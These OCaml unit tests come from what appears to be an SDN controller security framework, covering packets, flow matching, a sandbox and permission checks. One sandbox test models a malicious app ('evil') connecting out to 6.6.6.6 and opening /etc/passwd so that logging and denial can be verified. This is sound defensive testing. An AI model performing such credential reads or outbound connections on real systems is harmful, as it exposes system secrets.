  Alcotest.(check bool) "eth roundtrip" true
    (equal_eth_type Eth_arp (eth_type_of_code 0x0806));
  Alcotest.(check int) "tcp" 6 (ip_proto_code Proto_tcp);
  Alcotest.(check bool) "proto roundtrip" true
    (equal_ip_proto Proto_udp (ip_proto_of_code 17))

(* Packets ------------------------------------------------------------------ *)

let test_packet_constructors () =
  let p =
    Packet.tcp ~src:1 ~dst:2 ~nw_src:(ipv4_of_string "10.0.0.1")
      ~nw_dst:(ipv4_of_string "10.0.0.2") ~tp_src:1234 ~tp_dst:80 ()
  in
  Alcotest.(check bool) "has ip" true (p.Packet.ip <> None);
  Alcotest.(check bool) "has tp" true (p.Packet.tp <> None);
  let a = Packet.arp ~src:1 ~dst:Types.broadcast_mac () in
  Alcotest.(check bool) "arp is broadcast" true (Packet.is_broadcast a);
  Alcotest.(check bool) "arp no ip" true (a.Packet.ip = None)

let test_rst_for () =
  let http =
    Packet.http_request ~src:1 ~dst:2 ~nw_src:(ipv4_of_string "10.0.0.1")
      ~nw_dst:(ipv4_of_string "10.0.0.2") ~tp_src:5555 ()
  in
  match Packet.rst_for http with
  | None -> Alcotest.fail "expected an RST"
  | Some rst ->
    Alcotest.(check bool) "is rst" true (Packet.is_rst rst);
    let iph = Option.get rst.Packet.ip and tph = Option.get rst.Packet.tp in
    Alcotest.(check string) "reversed src ip" "10.0.0.2"
      (ipv4_to_string iph.Packet.nw_src);
    Alcotest.(check int) "reversed dst port" 5555 tph.Packet.tp_dst;
    Alcotest.(check bool) "no rst for arp" true
      (Packet.rst_for (Packet.arp ~src:1 ~dst:2 ()) = None)

let test_packet_rewrites () =
  let p =
    Packet.tcp ~src:1 ~dst:2 ~nw_src:(ipv4_of_string "10.0.0.1")
      ~nw_dst:(ipv4_of_string "10.0.0.2") ~tp_src:1 ~tp_dst:23 ()
  in
  let p' = Packet.with_tp_dst 80 p in
  Alcotest.(check int) "tp_dst rewritten" 80 (Option.get p'.Packet.tp).Packet.tp_dst;
  Alcotest.(check int) "original intact" 23 (Option.get p.Packet.tp).Packet.tp_dst;
  let p'' = Packet.with_nw_dst (ipv4_of_string "10.9.9.9") p' in
  Alcotest.(check string) "nw_dst rewritten" "10.9.9.9"
    (ipv4_to_string (Option.get p''.Packet.ip).Packet.nw_dst);
  (* Rewrites on packets without the header are no-ops, not errors. *)
  let a = Packet.arp ~src:1 ~dst:2 () in
  Alcotest.(check bool) "tp rewrite on arp is noop" true
    (Packet.with_tp_dst 80 a = a)

let test_decr_ttl () =
  let p =
    Packet.ip ~src:1 ~dst:2 ~nw_src:(ipv4_of_string "1.1.1.1")
      ~nw_dst:(ipv4_of_string "2.2.2.2") ~ttl:1 ()
  in
  (match Packet.decr_ttl p with
  | Some p' -> Alcotest.(check int) "ttl 0" 0 (Option.get p'.Packet.ip).Packet.ttl
  | None -> Alcotest.fail "ttl 1 should decrement");
  let p0 =
    Packet.ip ~src:1 ~dst:2 ~nw_src:(ipv4_of_string "1.1.1.1")
      ~nw_dst:(ipv4_of_string "2.2.2.2") ~ttl:0 ()
  in
  Alcotest.(check bool) "ttl 0 expires" true (Packet.decr_ttl p0 = None)

(* Matches ------------------------------------------------------------------ *)

let pkt_http ?(nw_src = "10.0.0.1") ?(nw_dst = "10.0.0.2") ?(tp_dst = 80) () =
  Packet.tcp ~src:11 ~dst:22 ~nw_src:(ipv4_of_string nw_src)
    ~nw_dst:(ipv4_of_string nw_dst) ~tp_src:4321 ~tp_dst ()

let test_match_wildcard_all () =
  Alcotest.(check bool) "matches anything" true
    (Match_fields.matches Match_fields.wildcard_all ~in_port:7 (pkt_http ()))

let test_match_exact_fields () =
  let m =
    Match_fields.make ~dl_type:Eth_ip ~nw_dst:(Match_fields.exact_ip (ipv4_of_string "10.0.0.2"))
      ~tp_dst:80 ()
  in
  Alcotest.(check bool) "exact hit" true
    (Match_fields.matches m ~in_port:1 (pkt_http ()));
  Alcotest.(check bool) "wrong port" false
    (Match_fields.matches m ~in_port:1 (pkt_http ~tp_dst:443 ()));
  Alcotest.(check bool) "wrong dst" false
    (Match_fields.matches m ~in_port:1 (pkt_http ~nw_dst:"10.0.0.3" ()))

let test_match_subnet () =
  let m =
    Match_fields.make
      ~nw_dst:(Match_fields.subnet (ipv4_of_string "10.13.0.0") (prefix_mask 16))
      ()
  in
  Alcotest.(check bool) "in subnet" true
    (Match_fields.matches m ~in_port:1 (pkt_http ~nw_dst:"10.13.4.5" ()));
  Alcotest.(check bool) "out of subnet" false
    (Match_fields.matches m ~in_port:1 (pkt_http ~nw_dst:"10.14.4.5" ()))

let test_match_requires_header () =
  (* An IP-field match never matches a packet without an IP header. *)
  let m =
    Match_fields.make ~nw_dst:(Match_fields.exact_ip (ipv4_of_string "10.0.0.2")) ()
  in
  let arp = Packet.arp ~src:1 ~dst:2 () in
  Alcotest.(check bool) "arp misses ip match" false
    (Match_fields.matches m ~in_port:1 arp)

let test_match_in_port () =
  let m = Match_fields.make ~in_port:3 () in
  Alcotest.(check bool) "right port" true
    (Match_fields.matches m ~in_port:3 (pkt_http ()));
  Alcotest.(check bool) "wrong port" false
    (Match_fields.matches m ~in_port:4 (pkt_http ()))

let test_subsumes () =
  let wide =
    Match_fields.make
      ~nw_dst:(Match_fields.subnet (ipv4_of_string "10.0.0.0") (prefix_mask 8))
      ()
  in
  let narrow =
    Match_fields.make ~dl_type:Eth_ip
      ~nw_dst:(Match_fields.exact_ip (ipv4_of_string "10.1.2.3"))
      ~tp_dst:80 ()
  in
  Alcotest.(check bool) "wide ⊇ narrow" true
    (Match_fields.subsumes ~outer:wide ~inner:narrow);
  Alcotest.(check bool) "narrow ⊉ wide" false
    (Match_fields.subsumes ~outer:narrow ~inner:wide);
  Alcotest.(check bool) "wildcard ⊇ all" true
    (Match_fields.subsumes ~outer:Match_fields.wildcard_all ~inner:narrow);
  Alcotest.(check bool) "reflexive" true
    (Match_fields.subsumes ~outer:narrow ~inner:narrow)

let test_compatible () =
  let a =
    Match_fields.make
      ~nw_dst:(Match_fields.subnet (ipv4_of_string "10.13.0.0") (prefix_mask 16))
      ()
  in
  let b = Match_fields.make ~tp_dst:80 () in
  let c =
    Match_fields.make
      ~nw_dst:(Match_fields.subnet (ipv4_of_string "10.14.0.0") (prefix_mask 16))
      ()
  in
  Alcotest.(check bool) "different dims overlap" true (Match_fields.compatible a b);
  Alcotest.(check bool) "disjoint subnets" false (Match_fields.compatible a c);
  Alcotest.(check bool) "wildcard compatible with all" true
    (Match_fields.compatible Match_fields.wildcard_all a)

let test_of_packet () =
  let pkt = pkt_http () in
  let m = Match_fields.of_packet ~in_port:2 pkt in
  Alcotest.(check bool) "matches itself" true
    (Match_fields.matches m ~in_port:2 pkt);
  Alcotest.(check bool) "not on other port" false
    (Match_fields.matches m ~in_port:3 pkt)

(* Actions ------------------------------------------------------------------ *)

let test_action_classify () =
  Alcotest.(check bool) "empty is drop" true (Action.is_drop []);
  Alcotest.(check bool) "output forwards" true (Action.forwards [ Action.Output 1 ]);
  Alcotest.(check bool) "flood forwards" true (Action.forwards [ Action.Flood ]);
  Alcotest.(check bool) "set modifies" true
    (Action.modifies [ Action.Set (Action.Set_tp_dst 80) ]);
  Alcotest.(check bool) "output doesn't modify" false
    (Action.modifies [ Action.Output 1 ])

let test_action_apply_order () =
  (* A rewrite applies to outputs after it, not before. *)
  let pkt = pkt_http ~tp_dst:23 () in
  let eff =
    Action.apply
      [ Action.Output 1; Action.Set (Action.Set_tp_dst 80); Action.Output 2 ]
      pkt
  in
  Alcotest.(check (list int)) "both outputs" [ 1; 2 ] eff.Action.out_ports;
  (* Final packet carries the rewrite (our simulator applies rewrites to
     the packet state; per-output divergence is approximated). *)
  Alcotest.(check int) "rewritten" 80
    (Option.get eff.Action.packet.Packet.tp).Packet.tp_dst

let test_action_apply_controller () =
  let eff = Action.apply [ Action.To_controller ] (pkt_http ()) in
  Alcotest.(check bool) "to controller" true eff.Action.to_controller;
  Alcotest.(check (list int)) "no ports" [] eff.Action.out_ports

(* Flow mods / stats -------------------------------------------------------- *)

let test_flow_mod_constructors () =
  let m = Match_fields.make ~tp_dst:80 () in
  let fm = Flow_mod.add ~priority:7 ~match_:m ~actions:[ Action.Output 1 ] () in
  Alcotest.(check bool) "add" true (fm.Flow_mod.command = Flow_mod.Add);
  Alcotest.(check int) "priority" 7 fm.Flow_mod.priority;
  let d = Flow_mod.delete ~match_:m () in
  Alcotest.(check bool) "delete has no actions" true (d.Flow_mod.actions = [])

let test_stats_merge () =
  let a = { (Stats.empty_port_stat 1) with Stats.rx_packets = 3L; tx_bytes = 10L } in
  let b = { (Stats.empty_port_stat 1) with Stats.rx_packets = 4L; tx_bytes = 5L } in
  let m = Stats.merge_port_stat a b in
  Alcotest.(check int64) "rx" 7L m.Stats.rx_packets;
  Alcotest.(check int64) "tx bytes" 15L m.Stats.tx_bytes;
  let s1 = { Stats.dpid = 1; flow_count = 2; total_packets = 5L; total_bytes = 100L } in
  let s2 = { Stats.dpid = 2; flow_count = 3; total_packets = 6L; total_bytes = 200L } in
  let merged = Stats.merge_switch_stat ~dpid:99 [ s1; s2 ] in
  Alcotest.(check int) "vdpid" 99 merged.Stats.dpid;
  Alcotest.(check int) "flows" 5 merged.Stats.flow_count;
  Alcotest.(check int64) "bytes" 300L merged.Stats.total_bytes

let suite =
  [ Alcotest.test_case "ipv4 roundtrip" `Quick test_ipv4_roundtrip;
    Alcotest.test_case "ipv4 of octets" `Quick test_ipv4_of_octets;
    Alcotest.test_case "ipv4 invalid" `Quick test_ipv4_invalid;
    Alcotest.test_case "prefix mask" `Quick test_prefix_mask;
    Alcotest.test_case "mask prefix len" `Quick test_mask_prefix_len;
    Alcotest.test_case "subnet membership" `Quick test_subnet_membership;
    Alcotest.test_case "mac roundtrip" `Quick test_mac_roundtrip;
    Alcotest.test_case "eth/ip proto codes" `Quick test_eth_ip_proto_codes;
    Alcotest.test_case "packet constructors" `Quick test_packet_constructors;
    Alcotest.test_case "rst crafting" `Quick test_rst_for;
    Alcotest.test_case "packet rewrites" `Quick test_packet_rewrites;
    Alcotest.test_case "ttl decrement" `Quick test_decr_ttl;
    Alcotest.test_case "match wildcard-all" `Quick test_match_wildcard_all;
    Alcotest.test_case "match exact fields" `Quick test_match_exact_fields;
    Alcotest.test_case "match subnet" `Quick test_match_subnet;
    Alcotest.test_case "match requires header" `Quick test_match_requires_header;
    Alcotest.test_case "match in-port" `Quick test_match_in_port;
    Alcotest.test_case "match subsumption" `Quick test_subsumes;
    Alcotest.test_case "match compatibility" `Quick test_compatible;
    Alcotest.test_case "match of packet" `Quick test_of_packet;
    Alcotest.test_case "action classification" `Quick test_action_classify;
    Alcotest.test_case "action apply order" `Quick test_action_apply_order;
    Alcotest.test_case "action to-controller" `Quick test_action_apply_controller;
    Alcotest.test_case "flow-mod constructors" `Quick test_flow_mod_constructors;
    Alcotest.test_case "stats merging" `Quick test_stats_merge ]
