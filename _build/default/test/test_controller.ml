(* Unit and integration tests for the controller substrate: channels,
   kernel call execution, sandbox, and both runtime architectures. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_net
open Shield_controller

(* Channels ------------------------------------------------------------------ *)

let test_channel_fifo () =
  let c = Channel.create () in
  Channel.push c 1;
  Channel.push c 2;
  Channel.push c 3;
  Alcotest.(check (option int)) "1st" (Some 1) (Channel.pop c);
  Alcotest.(check (option int)) "2nd" (Some 2) (Channel.pop c);
  Alcotest.(check int) "length" 1 (Channel.length c)

let test_channel_close () =
  let c = Channel.create () in
  Channel.push c 1;
  Channel.close c;
  Alcotest.(check (option int)) "drains" (Some 1) (Channel.pop c);
  Alcotest.(check (option int)) "then none" None (Channel.pop c);
  Alcotest.check_raises "push after close" Channel.Closed (fun () ->
      Channel.push c 2)

let test_channel_cross_thread () =
  let c = Channel.create () in
  let results = ref [] in
  let consumer =
    Thread.create
      (fun () ->
        let rec loop () =
          match Channel.pop c with
          | Some v ->
            results := v :: !results;
            loop ()
          | None -> ()
        in
        loop ())
      ()
  in
  List.iter (Channel.push c) [ 1; 2; 3; 4; 5 ];
  Channel.close c;
  Thread.join consumer;
  Alcotest.(check (list int)) "all received in order" [ 1; 2; 3; 4; 5 ]
    (List.rev !results)

let test_ivar () =
  let iv = Channel.Ivar.create () in
  let reader = Thread.create (fun () -> Channel.Ivar.read iv) () in
  Thread.yield ();
  Channel.Ivar.fill iv 42;
  Thread.join reader;
  Alcotest.(check int) "read" 42 (Channel.Ivar.read iv);
  Alcotest.check_raises "double fill" (Invalid_argument "Ivar.fill: already filled")
    (fun () -> Channel.Ivar.fill iv 43)

let test_latch () =
  let l = Channel.Latch.create 3 in
  let waiters = List.init 2 (fun _ -> Thread.create (fun () -> Channel.Latch.wait l) ()) in
  Channel.Latch.count_down l;
  Channel.Latch.count_down l;
  Channel.Latch.count_down l;
  List.iter Thread.join waiters;
  (* Reaching here means the latch released. *)
  Channel.Latch.wait l (* immediate once at zero *)

(* Sandbox -------------------------------------------------------------------- *)

let test_sandbox_logs () =
  let sb = Sandbox.create () in
  ignore
    (Sandbox.execute sb ~app:"evil"
       (Api.Net_connect
          { dst = ipv4_of_string "6.6.6.6"; dst_port = 80; payload = "x" }));
  ignore (Sandbox.execute sb ~app:"evil" (Api.File_open { path = "/etc/passwd"; write = false }));
  Alcotest.(check int) "one connection" 1
    (List.length (Sandbox.connections_by sb ~app:"evil"));
  Alcotest.(check int) "none for other" 0
    (List.length (Sandbox.connections_by sb ~app:"good"));
  Sandbox.record_audit sb ~app:"evil" ~action:"x" ~allowed:false ~detail:"denied";
  Alcotest.(check int) "denials recorded" 1
    (List.length (Sandbox.denied_actions sb ~app:"evil"))

(* Kernel --------------------------------------------------------------------- *)

let kernel_setup n =
  let topo = Topology.linear n in
  let dp = Dataplane.create topo in
  (topo, dp, Kernel.create dp)

let test_kernel_install_and_read () =
  let _topo, _dp, k = kernel_setup 2 in
  let fm =
    Flow_mod.add ~match_:(Match_fields.make ~tp_dst:80 ())
      ~actions:[ Action.Output 2 ] ()
  in
  (match Kernel.exec k ~app:"a" ~cookie:7 (Api.Install_flow (1, fm)) with
  | Api.Done -> ()
  | r -> Alcotest.failf "install failed: %a" Api.pp_result r);
  match Kernel.exec k ~app:"a" ~cookie:7 (Api.Read_flow_table { dpid = Some 1; pattern = None }) with
  | Api.Flow_entries [ (1, [ fs ]) ] ->
    (* Unset cookies are stamped with the app's cookie. *)
    Alcotest.(check int) "cookie stamped" 7 fs.Stats.cookie
  | r -> Alcotest.failf "unexpected read result: %a" Api.pp_result r

let test_kernel_unknown_switch () =
  let _topo, _dp, k = kernel_setup 1 in
  let fm = Flow_mod.add ~match_:Match_fields.wildcard_all ~actions:[] () in
  match Kernel.exec k ~app:"a" ~cookie:1 (Api.Install_flow (99, fm)) with
  | Api.Failed _ -> ()
  | r -> Alcotest.failf "expected failure: %a" Api.pp_result r

let test_kernel_topology_view_and_modify () =
  let _topo, _dp, k = kernel_setup 3 in
  (match Kernel.exec k ~app:"a" ~cookie:1 Api.Read_topology with
  | Api.Topology_of v ->
    Alcotest.(check (list int)) "switches" [ 1; 2; 3 ] v.Api.switches;
    Alcotest.(check int) "links" 2 (List.length v.Api.links)
  | r -> Alcotest.failf "unexpected: %a" Api.pp_result r);
  ignore
    (Kernel.exec k ~app:"a" ~cookie:1
       (Api.Modify_topology
          (Api.Remove_link
             ( { Topology.dpid = 1; port = 2 },
               { Topology.dpid = 2; port = 1 } ))));
  (match Kernel.take_pending k with
  | [ Events.Topology_changed _ ] -> ()
  | evs -> Alcotest.failf "expected 1 topology event, got %d" (List.length evs));
  match Kernel.exec k ~app:"a" ~cookie:1 Api.Read_topology with
  | Api.Topology_of v -> Alcotest.(check int) "one link left" 1 (List.length v.Api.links)
  | r -> Alcotest.failf "unexpected: %a" Api.pp_result r

let test_kernel_flow_removed_event () =
  let _topo, _dp, k = kernel_setup 1 in
  let m = Match_fields.make ~tp_dst:80 () in
  ignore
    (Kernel.exec k ~app:"a" ~cookie:3
       (Api.Install_flow (1, Flow_mod.add ~match_:m ~actions:[] ())));
  ignore (Kernel.take_pending k);
  ignore
    (Kernel.exec k ~app:"b" ~cookie:4
       (Api.Install_flow (1, Flow_mod.delete ~match_:Match_fields.wildcard_all ())));
  match Kernel.take_pending k with
  | [ Events.Flow_removed { cookie; _ } ] -> Alcotest.(check int) "victim cookie" 3 cookie
  | evs -> Alcotest.failf "expected flow-removed, got %d events" (List.length evs)

let test_kernel_packet_out_punts_cascade () =
  (* With reflection enabled, a packet-out on the inter-switch port of
     s1 lands at s2, misses, and becomes a packet-in event. *)
  let topo = Topology.linear 2 in
  let k = Kernel.create ~reflect_packet_out:true (Dataplane.create topo) in
  let p = Packet.arp ~src:5 ~dst:6 () in
  ignore
    (Kernel.exec k ~app:"a" ~cookie:1
       (Api.Send_packet_out { dpid = 1; port = 2; packet = p; from_pkt_in = false }));
  match Kernel.take_pending k with
  | [ Events.Packet_in pi ] -> Alcotest.(check int) "at s2" 2 pi.Message.dpid
  | evs -> Alcotest.failf "expected cascaded packet-in, got %d events" (List.length evs)

let test_kernel_syscall_via_sandbox () =
  let _topo, _dp, k = kernel_setup 1 in
  ignore
    (Kernel.exec k ~app:"m" ~cookie:1
       (Api.Syscall
          (Api.Net_connect { dst = ipv4_of_string "10.1.0.5"; dst_port = 8080; payload = "r" })));
  Alcotest.(check int) "recorded" 1
    (List.length (Sandbox.connections_by k.Kernel.sandbox ~app:"m"))

(* Runtimes -------------------------------------------------------------------- *)

(* A probe app that counts events and calls the API from its handler. *)
let probe_app ?(subscriptions = [ Api.E_packet_in ]) name =
  let seen = ref 0 in
  let app =
    App.make ~subscriptions
      ~handle:(fun ctx ev ->
        incr seen;
        match ev with
        | Events.Packet_in pi ->
          ignore
            (ctx.App.call
               (Api.Install_flow
                  ( pi.Message.dpid,
                    Flow_mod.add
                      ~match_:(Match_fields.make ~dl_dst:pi.Message.packet.Packet.dl_src ())
                      ~actions:[ Action.Output pi.Message.in_port ] () )))
        | _ -> ())
      name
  in
  (app, seen)

let packet_in_event ?(dpid = 1) () =
  Events.Packet_in
    { Message.dpid; in_port = 1; packet = Packet.arp ~src:0xAA ~dst:0xBB ();
      reason = Message.No_match; buffer_id = None }

let with_runtime ~mode apps f =
  let _topo, dp, k = kernel_setup 2 in
  let rt = Runtime.create ~mode k apps in
  Fun.protect ~finally:(fun () -> Runtime.shutdown rt) (fun () -> f dp k rt)

let test_runtime_dispatch_both_modes () =
  List.iter
    (fun mode ->
      let app, seen = probe_app "probe" in
      with_runtime ~mode [ (app, Api.allow_all) ] (fun dp _k rt ->
          Runtime.feed_sync rt (packet_in_event ());
          Runtime.feed_sync rt (packet_in_event ());
          Alcotest.(check int) "events seen" 2 !seen;
          (* The handler's flow-mod actually reached the data plane. *)
          let sw = Dataplane.switch dp 1 in
          Alcotest.(check int) "rule installed" 1
            (Flow_table.size sw.Switch.table)))
    [ Runtime.Monolithic; Runtime.Isolated { ksd_threads = 2 } ]

let test_runtime_subscription_routing () =
  let app_pi, seen_pi = probe_app ~subscriptions:[ Api.E_packet_in ] "pi" in
  let app_topo, seen_topo = probe_app ~subscriptions:[ Api.E_topology ] "topo" in
  with_runtime ~mode:Runtime.Monolithic
    [ (app_pi, Api.allow_all); (app_topo, Api.allow_all) ]
    (fun _dp _k rt ->
      Runtime.feed_sync rt (packet_in_event ());
      Alcotest.(check int) "pi app got it" 1 !seen_pi;
      Alcotest.(check int) "topo app did not" 0 !seen_topo)

let test_runtime_event_permission_gate () =
  List.iter
    (fun mode ->
      let app, seen = probe_app "gated" in
      with_runtime ~mode [ (app, Api.deny_all) ] (fun _dp k rt ->
          Runtime.feed_sync rt (packet_in_event ());
          Alcotest.(check int) "suppressed" 0 !seen;
          let _, denials, _, suppressed = Runtime.stats rt in
          Alcotest.(check bool) "denial counted" true (denials >= 1);
          Alcotest.(check int) "suppression counted" 1 suppressed;
          Alcotest.(check bool) "audited" true
            (Sandbox.denied_actions k.Kernel.sandbox ~app:"gated" <> [])))
    [ Runtime.Monolithic; Runtime.Isolated { ksd_threads = 1 } ]

let test_runtime_payload_stripping () =
  (* Checker that allows events but denies payload access. *)
  let no_payload =
    { Api.allow_all with
      Api.check =
        (function
        | Api.Read_payload_access -> Api.Deny "no payload"
        | _ -> Api.Allow) }
  in
  let got = ref "" in
  let app =
    App.make ~subscriptions:[ Api.E_packet_in ]
      ~handle:(fun _ctx -> function
        | Events.Packet_in pi -> got := pi.Message.packet.Packet.payload
        | _ -> ())
      "nopayload"
  in
  with_runtime ~mode:Runtime.Monolithic [ (app, no_payload) ] (fun _dp _k rt ->
      let ev =
        Events.Packet_in
          { Message.dpid = 1; in_port = 1;
            packet = Packet.arp ~src:1 ~dst:2 ~payload:"SECRET" ();
            reason = Message.No_match; buffer_id = None }
      in
      Runtime.feed_sync rt ev;
      Alcotest.(check string) "payload stripped" "" !got)

let test_runtime_call_denial () =
  List.iter
    (fun mode ->
      (* Allow event delivery, deny flow installs. *)
      let checker =
        { Api.allow_all with
          Api.check =
            (function
            | Api.Install_flow _ -> Api.Deny "no writes"
            | _ -> Api.Allow) }
      in
      let app, _ = probe_app "nowrite" in
      with_runtime ~mode [ (app, checker) ] (fun dp _k rt ->
          Runtime.feed_sync rt (packet_in_event ());
          let sw = Dataplane.switch dp 1 in
          Alcotest.(check int) "nothing installed" 0 (Flow_table.size sw.Switch.table)))
    [ Runtime.Monolithic; Runtime.Isolated { ksd_threads = 2 } ]

let test_runtime_transaction () =
  List.iter
    (fun mode ->
      let fm p =
        Api.Install_flow
          (1, Flow_mod.add ~match_:(Match_fields.make ~tp_dst:p ()) ~actions:[] ())
      in
      (* Deny installs on port 23; a transaction containing one must
         install nothing at all. *)
      let checker =
        { Api.allow_all with
          Api.check_transaction =
            (fun calls ->
              let bad =
                List.mapi (fun i c -> (i, c)) calls
                |> List.find_opt (fun (_, c) ->
                       match c with
                       | Api.Install_flow (_, f) ->
                         f.Flow_mod.match_.Match_fields.tp_dst = Some 23
                       | _ -> false)
              in
              match bad with
              | Some (i, _) -> Error (i, "telnet forbidden")
              | None -> Ok ()) }
      in
      let result = ref (Ok []) in
      let app =
        App.make
          ~subscriptions:[ Api.E_packet_in ]
          ~handle:(fun ctx _ ->
            result := ctx.App.transaction [ fm 80; fm 23; fm 443 ])
          "txn"
      in
      with_runtime ~mode [ (app, checker) ] (fun dp _k rt ->
          Runtime.feed_sync rt (packet_in_event ());
          (match !result with
          | Error (1, _) -> ()
          | Error (i, _) -> Alcotest.failf "wrong index %d" i
          | Ok _ -> Alcotest.fail "transaction should fail");
          let sw = Dataplane.switch dp 1 in
          Alcotest.(check int) "atomic: nothing installed" 0
            (Flow_table.size sw.Switch.table);
          (* A clean transaction goes through whole. *)
          Runtime.feed_sync rt (packet_in_event ());
          ignore !result))
    [ Runtime.Monolithic; Runtime.Isolated { ksd_threads = 2 } ]

let test_runtime_transaction_success () =
  let fm p =
    Api.Install_flow
      (1, Flow_mod.add ~match_:(Match_fields.make ~tp_dst:p ()) ~actions:[] ())
  in
  let result = ref (Error (0, "unset")) in
  let app =
    App.make ~subscriptions:[ Api.E_packet_in ]
      ~handle:(fun ctx _ -> result := ctx.App.transaction [ fm 80; fm 443 ])
      "txn-ok"
  in
  with_runtime ~mode:(Runtime.Isolated { ksd_threads = 2 })
    [ (app, Api.allow_all) ]
    (fun dp _k rt ->
      Runtime.feed_sync rt (packet_in_event ());
      (match !result with
      | Ok [ Api.Done; Api.Done ] -> ()
      | _ -> Alcotest.fail "transaction should succeed with two Done");
      let sw = Dataplane.switch dp 1 in
      Alcotest.(check int) "both installed" 2 (Flow_table.size sw.Switch.table))

let test_runtime_crash_isolation () =
  (* A handler that raises must not kill the runtime or other apps. *)
  List.iter
    (fun mode ->
      let crasher =
        App.make ~subscriptions:[ Api.E_packet_in ]
          ~handle:(fun _ _ -> failwith "boom")
          "crasher"
      in
      let app, seen = probe_app "survivor" in
      with_runtime ~mode
        [ (crasher, Api.allow_all); (app, Api.allow_all) ]
        (fun _dp k rt ->
          Runtime.feed_sync rt (packet_in_event ());
          Runtime.feed_sync rt (packet_in_event ());
          Alcotest.(check int) "survivor still served" 2 !seen;
          (* The crash is recorded in the audit log. *)
          let crashes =
            List.filter
              (fun (e : Sandbox.audit_entry) ->
                e.Sandbox.app_name = "crasher" && e.Sandbox.action = "handler-exception")
              (Sandbox.audit_log k.Kernel.sandbox)
          in
          Alcotest.(check int) "crashes audited" 2 (List.length crashes)))
    [ Runtime.Monolithic; Runtime.Isolated { ksd_threads = 1 } ]

let test_runtime_async_drain () =
  let app, seen = probe_app "drainee" in
  with_runtime ~mode:(Runtime.Isolated { ksd_threads = 2 })
    [ (app, Api.allow_all) ]
    (fun _dp _k rt ->
      for i = 1 to 50 do
        Runtime.feed rt (packet_in_event ~dpid:(1 + (i mod 2)) ())
      done;
      Runtime.drain rt;
      Alcotest.(check int) "all events handled" 50 !seen)

let test_runtime_cascaded_events () =
  (* topo-change handler fires when another app modifies the topology. *)
  let seen_topo = ref 0 in
  let listener =
    App.make ~subscriptions:[ Api.E_topology ]
      ~handle:(fun _ -> function Events.Topology_changed _ -> incr seen_topo | _ -> ())
      "listener"
  in
  let modifier =
    App.make ~subscriptions:[ Api.E_packet_in ]
      ~handle:(fun ctx _ ->
        ignore (ctx.App.call (Api.Modify_topology (Api.Add_switch 77))))
      "modifier"
  in
  List.iter
    (fun mode ->
      seen_topo := 0;
      with_runtime ~mode
        [ (listener, Api.allow_all); (modifier, Api.allow_all) ]
        (fun _dp _k rt ->
          Runtime.feed_sync rt (packet_in_event ());
          Alcotest.(check int) "cascade delivered" 1 !seen_topo))
    [ Runtime.Monolithic; Runtime.Isolated { ksd_threads = 2 } ]

let test_runtime_publish_subscribe () =
  let payload_seen = ref "" in
  let consumer =
    App.make ~subscriptions:[ Api.E_app "chan" ]
      ~handle:(fun _ -> function
        | Events.App_published { payload; _ } -> payload_seen := payload
        | _ -> ())
      "consumer"
  in
  let producer =
    App.make ~subscriptions:[ Api.E_packet_in ]
      ~handle:(fun ctx _ ->
        ignore (ctx.App.call (Api.Publish_event { tag = "chan"; payload = "hello" })))
      "producer"
  in
  with_runtime ~mode:(Runtime.Isolated { ksd_threads = 2 })
    [ (consumer, Api.allow_all); (producer, Api.allow_all) ]
    (fun _dp _k rt ->
      Runtime.feed_sync rt (packet_in_event ());
      Alcotest.(check string) "published payload" "hello" !payload_seen)

let suite =
  [ Alcotest.test_case "channel fifo" `Quick test_channel_fifo;
    Alcotest.test_case "channel close" `Quick test_channel_close;
    Alcotest.test_case "channel cross-thread" `Quick test_channel_cross_thread;
    Alcotest.test_case "ivar" `Quick test_ivar;
    Alcotest.test_case "latch" `Quick test_latch;
    Alcotest.test_case "sandbox logs" `Quick test_sandbox_logs;
    Alcotest.test_case "kernel install/read" `Quick test_kernel_install_and_read;
    Alcotest.test_case "kernel unknown switch" `Quick test_kernel_unknown_switch;
    Alcotest.test_case "kernel topology" `Quick test_kernel_topology_view_and_modify;
    Alcotest.test_case "kernel flow-removed" `Quick test_kernel_flow_removed_event;
    Alcotest.test_case "kernel pkt-out cascade" `Quick test_kernel_packet_out_punts_cascade;
    Alcotest.test_case "kernel syscall sandbox" `Quick test_kernel_syscall_via_sandbox;
    Alcotest.test_case "runtime dispatch (both modes)" `Quick test_runtime_dispatch_both_modes;
    Alcotest.test_case "runtime subscription routing" `Quick test_runtime_subscription_routing;
    Alcotest.test_case "runtime event gate" `Quick test_runtime_event_permission_gate;
    Alcotest.test_case "runtime payload stripping" `Quick test_runtime_payload_stripping;
    Alcotest.test_case "runtime call denial" `Quick test_runtime_call_denial;
    Alcotest.test_case "runtime transaction rollback" `Quick test_runtime_transaction;
    Alcotest.test_case "runtime transaction success" `Quick test_runtime_transaction_success;
    Alcotest.test_case "runtime crash isolation" `Quick test_runtime_crash_isolation;
    Alcotest.test_case "runtime async drain" `Quick test_runtime_async_drain;
    Alcotest.test_case "runtime cascaded events" `Quick test_runtime_cascaded_events;
    Alcotest.test_case "runtime publish/subscribe" `Quick test_runtime_publish_subscribe ]
