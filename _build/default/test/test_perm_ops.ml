(* MEET/JOIN/complement on permission manifests (§V-A/§V-B2), with
   qcheck laws relating the lattice operations to both the inclusion
   algorithm and the evaluation semantics. *)

open Sdnshield

let manifest = Test_util.manifest_exn

let m_flow_narrow =
  manifest "PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0"

let m_flow_wide = manifest "PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0"

let m_mixed =
  manifest
    "PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0\n\
     PERM read_statistics LIMITING PORT_LEVEL\nPERM visible_topology"

let test_meet_tokens () =
  let m = Perm_ops.meet m_mixed m_flow_narrow in
  Alcotest.(check int) "only common token" 1 (List.length m);
  Alcotest.(check bool) "it's insert_flow" true (Perm.grants_token m Token.Insert_flow);
  (* Meet with an unrelated manifest is empty. *)
  Alcotest.(check int) "no common token" 0
    (List.length (Perm_ops.meet m_flow_narrow (manifest "PERM read_statistics")))

let test_meet_narrows () =
  let m = Perm_ops.meet m_flow_wide m_flow_narrow in
  (* wide ∩ narrow = narrow, semantically. *)
  Alcotest.(check bool) "meet ⊆ narrow" true (Inclusion.manifest_includes m_flow_narrow m);
  Alcotest.(check bool) "narrow ⊆ meet" true (Inclusion.manifest_includes m m_flow_narrow)

let test_join_widens () =
  let m = Perm_ops.join m_flow_narrow (manifest "PERM read_statistics") in
  Alcotest.(check int) "both tokens" 2 (List.length m);
  Alcotest.(check bool) "⊇ lhs" true (Inclusion.manifest_includes m m_flow_narrow);
